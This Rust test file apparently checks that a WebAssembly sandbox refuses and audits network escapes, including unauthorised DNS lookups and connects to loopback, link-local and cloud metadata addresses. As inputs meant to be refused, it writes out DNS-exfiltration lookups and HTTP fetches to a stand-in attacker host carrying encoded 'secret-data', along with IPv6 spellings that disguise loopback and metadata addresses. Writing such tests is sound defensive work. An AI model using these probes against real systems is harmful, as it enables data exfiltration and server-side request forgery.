//! Network escapes over raw `wasi:sockets` and `wasi:http` (issue 10, items 4-7): a name is
//! resolved only through a grant that names it (address grants resolve no name, so DNS
//! carries nothing out), and every refused lookup is audited; connects and binds
//! wasmtime-wasi would refuse as invalid (multicast, broadcast, mapped, other family) are
//! checked and audited first; a broad address grant (`0.0.0.0/0`, `::/0`) reaches no
//! loopback, link-local or metadata address in any of its IPv4 or IPv6 spellings. Every
//! refusal is an `access-denied` the guest sees, a `CapabilityDenied` audit record, and no
//! connection at a loopback listener. Guests: `tests/components/net-probe`, `http-fetch`.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use support::{Expect, Harness, caps, quotas, spec};

/// A loopback TCP listener that counts the connections it accepts.
async fn listener() -> (u16, Arc<AtomicUsize>, tokio::task::JoinHandle<()>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = Arc::new(AtomicUsize::new(0));
    let counter = seen.clone();
    let task = tokio::spawn(async move {
        while let Ok((sock, _)) = listener.accept().await {
            counter.fetch_add(1, Ordering::SeqCst);
            drop(sock);
        }
    });
    (port, seen, task)
}

/// Waits (bounded) until the listener has seen `n` connections, then returns the count.
async fn seen_at_least(seen: &AtomicUsize, n: usize) -> usize {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
    while seen.load(Ordering::SeqCst) < n && tokio::time::Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    seen.load(Ordering::SeqCst)
}

async fn neighbour(h: &Harness) {
    h.add(spec("neighbour", "echo", caps(""), quotas())).await;
    assert_eq!(h.ask("neighbour", "hello").await.unwrap(), "hello");
}

/// Asks `component` to probe `what`, asserts the refusal and its audit record.
async fn assert_refused(h: &Harness, component: &str, what: &str) {
    let before = support::count(h, component, Expect::Denied("network")).await;
    let answer = h.ask(component, what).await.unwrap();
    assert_eq!(answer, "error:access-denied", "{what} must be refused");
    let after = support::count(h, component, Expect::Denied("network")).await;
    assert_eq!(after, before + 1, "{what}: exactly one audit record");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn name_lookups_need_a_grant_that_could_use_the_name() {
    let h = Harness::new();
    neighbour(&h).await;

    // No network grant at all: DNS is not a side channel either.
    h.add(spec("silent", "net-probe", caps(""), quotas())).await;
    assert_refused(&h, "silent", "lookup secret-data.exfil.example.org").await;

    // A grant for one name: that name resolves, no other does.
    let grant = caps("network: [{ host: localhost, port: 443 }]");
    h.add(spec("resolver", "net-probe", grant, quotas())).await;
    let granted = h.ask("resolver", "lookup localhost").await.unwrap();
    assert!(
        granted.starts_with("ok:"),
        "a granted name resolves: {granted}"
    );
    assert_refused(&h, "resolver", "lookup secret-data.exfil.example.org").await;
    assert_refused(&h, "resolver", "lookup localhost.exfil.example.org").await;
    let denial = support::wait_kind(&h, "resolver", Expect::Denied("network")).await;
    let target = denial["detail"]["target"].as_str().unwrap();
    assert!(
        target.contains("exfil.example.org"),
        "audit names the lookup: {target}"
    );
    // An IP literal is answered without a query.
    assert_eq!(
        h.ask("resolver", "lookup 93.184.216.34").await.unwrap(),
        "ok:93.184.216.34"
    );
    assert_eq!(h.ask("neighbour", "still?").await.unwrap(), "still?");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn address_grants_resolve_no_names() {
    let h = Harness::new();
    neighbour(&h).await;

    // Only address grants, the broadest ones included: every name lookup is refused before
    // a query leaves, so a name cannot carry data to an attacker's name server.
    let blocks = caps(
        "network: [{ host: 10.0.0.0/8, port: 443 }, { host: 0.0.0.0/0, port: 443 }, \
         { host: \"::/0\", port: 443 }]",
    );
    h.add(spec("blocks", "net-probe", blocks.clone(), quotas()))
        .await;
    for name in [
        "c2VjcmV0LWRhdGE.attacker.example",
        "localhost",
        "db.internal",
        "LOCALHOST.",
    ] {
        assert_refused(&h, "blocks", &format!("lookup {name}")).await;
    }
    let denial = support::wait_kind(&h, "blocks", Expect::Denied("network")).await;
    assert_eq!(
        denial["detail"]["target"], "lookup c2VjcmV0LWRhdGE.attacker.example",
        "the audit names the refused lookup"
    );
    // Address literals need no query and still work; the address is then checked.
    assert_eq!(
        h.ask("blocks", "lookup 10.1.2.3").await.unwrap(),
        "ok:10.1.2.3"
    );

    // A name grant lets exactly the names it matches resolve, and only plain host names:
    // forms a resolver would rewrite (percent escapes, Unicode) are refused too.
    let named = caps("network: [{ host: localhost, port: 443 }, { host: 10.0.0.0/8, port: 443 }]");
    h.add(spec("named", "net-probe", named, quotas())).await;
    assert!(
        h.ask("named", "lookup localhost")
            .await
            .unwrap()
            .starts_with("ok:")
    );
    for name in [
        "%6cocalhost",
        "\u{ff4c}ocalhost",
        "x.localhost",
        "local host",
    ] {
        assert_refused(&h, "named", &format!("lookup {name}")).await;
    }

    // Outgoing HTTP follows the same rule: an address grant does not let a URL's host name
    // be looked up.
    h.add(spec("fetch-blocks", "http-fetch", blocks, quotas()))
        .await;
    let before = support::count(&h, "fetch-blocks", Expect::Denied("network")).await;
    for url in [
        "https://c2VjcmV0LWRhdGE.attacker.example/",
        "http://localhost:443/",
    ] {
        assert_eq!(
            h.ask("fetch-blocks", url).await.unwrap(),
            "error:ErrorCode::HttpRequestDenied",
            "{url}"
        );
    }
    assert_eq!(
        support::count(&h, "fetch-blocks", Expect::Denied("network")).await,
        before + 2,
        "each refused request is audited"
    );
    assert_eq!(h.ask("neighbour", "still?").await.unwrap(), "still?");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_socket_operation_naming_an_address_is_checked_and_audited() {
    let h = Harness::new();
    neighbour(&h).await;
    let (port, seen, server) = listener().await;
    let broad = caps(&format!(
        "network: [{{ host: 0.0.0.0/0, port: {port} }}, {{ host: \"::/0\", port: {port} }}]"
    ));
    h.add(spec("binder", "net-probe", broad, quotas())).await;
    let refused = [
        // Binds wasmtime-wasi refuses as invalid before any check: multicast groups,
        // broadcast, a mapped address on an IPv6 socket.
        "tcpbind 224.0.0.1:0".to_owned(),
        "tcpbind 239.255.255.250:1900".to_owned(),
        "tcpbind [ff02::1]:0".to_owned(),
        "tcpbind [ff05::1:3]:547".to_owned(),
        "tcpbind 255.255.255.255:0".to_owned(),
        "tcpbind [::ffff:224.0.0.1]:0".to_owned(),
        "tcpbind [::ffff:127.0.0.1]:0".to_owned(),
        "udpbind [::ffff:224.0.0.251]:5353".to_owned(),
        "udpbind [::ffff:0.0.0.0]:0".to_owned(),
        // Binds it would check: only the wildcard on an ephemeral port is allowed.
        "udpbind 224.0.0.251:5353".to_owned(),
        "udpbind [ff02::fb]:5353".to_owned(),
        "udpbind 255.255.255.255:0".to_owned(),
        format!("tcpbind 127.0.0.1:{port}"),
        format!("tcpbind 0.0.0.0:{port}"),
        format!("udpbind [::]:{port}"),
        // Connects and sends to multicast groups, through the broadest grants.
        format!("tcp 224.0.0.1:{port}"),
        format!("tcp [ff02::1]:{port}"),
        format!("udp 239.1.2.3:{port}"),
        format!("udp [ff02::1]:{port}"),
        format!("udpsend 224.0.0.251:{port}"),
        format!("udpsend [ff02::fb]:{port}"),
        format!("udpsend [::ffff:224.0.0.1]:{port}"),
    ];
    for what in &refused {
        assert_refused(&h, "binder", what).await;
    }
    // The implicit-bind form stays allowed, and is no denial.
    let denials = support::count(&h, "binder", Expect::Denied("network")).await;
    assert_eq!(h.ask("binder", "tcpbind 0.0.0.0:0").await.unwrap(), "ok");
    assert_eq!(h.ask("binder", "udpbind [::]:0").await.unwrap(), "ok");
    assert_eq!(
        support::count(&h, "binder", Expect::Denied("network")).await,
        denials
    );
    assert_eq!(seen.load(Ordering::SeqCst), 0, "nothing reached loopback");
    assert_eq!(h.ask("neighbour", "still?").await.unwrap(), "still?");
    server.abort();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn invalid_and_special_connects_are_refused_audited_and_never_reach_loopback() {
    let h = Harness::new();
    neighbour(&h).await;
    let (port, seen, server) = listener().await;

    // "Any public host", written as the broadest address grants.
    let broad = caps(&format!(
        "network: [{{ host: 0.0.0.0/0, port: {port} }}, {{ host: \"::/0\", port: {port} }}]"
    ));
    h.add(spec("broad", "net-probe", broad, quotas())).await;
    let refused = [
        // Refused by wasmtime-wasi as invalid before any check (item 6).
        format!("tcp 0.0.0.0:{port}"),
        format!("tcp [::]:{port}"),
        format!("tcp [::ffff:127.0.0.1]:{port}"),
        format!("tcp 255.255.255.255:{port}"),
        format!("tcp 224.0.0.1:{port}"),
        format!("udp 0.0.0.0:{port}"),
        format!("udpsend 255.255.255.255:{port}"),
        // Loopback and metadata through a broad grant (item 7).
        format!("tcp 127.0.0.1:{port}"),
        format!("tcp 127.1.2.3:{port}"),
        format!("tcp 169.254.169.254:{port}"),
        format!("tcp 10.1.2.3:{port}"),
        format!("udpsend 127.0.0.1:{port}"),
        // IPv6 spellings of loopback and metadata (item 5).
        format!("tcp [::1]:{port}"),
        format!("tcp [::127.0.0.1]:{port}"),
        format!("tcp [::ffff:0:127.0.0.1]:{port}"),
        format!("tcp [64:ff9b::127.0.0.1]:{port}"),
        format!("tcp [64:ff9b::169.254.169.254]:{port}"),
        format!("tcp [64:ff9b:1::7f00:1]:{port}"),
        format!("tcp [2002:7f00:1::1]:{port}"),
        format!("tcp [2001:0:4136:e378:8000:63bf:80ff:fffe]:{port}"),
        format!("tcp [fd00:ec2::254]:{port}"),
        format!("tcp [fe80::1]:{port}"),
        format!("tcp [fec0::1]:{port}"),
        format!("tcp [100::1]:{port}"),
    ];
    for what in &refused {
        assert_refused(&h, "broad", what).await;
    }

    // Control: a grant naming loopback does connect, so the listener would have seen the
    // refused ones had any got through.
    let exact = caps(&format!("network: [{{ host: 127.0.0.1, port: {port} }}]"));
    h.add(spec("exact", "net-probe", exact, quotas())).await;
    assert_eq!(
        h.ask("exact", &format!("tcp 127.0.0.1:{port}"))
            .await
            .unwrap(),
        "ok"
    );
    assert_eq!(
        seen_at_least(&seen, 1).await,
        1,
        "only the granted connect arrived"
    );
    assert_eq!(
        support::count(&h, "exact", Expect::Denied("network")).await,
        0,
        "a granted connect is not a denial"
    );
    assert_eq!(h.ask("neighbour", "still?").await.unwrap(), "still?");
    server.abort();
}
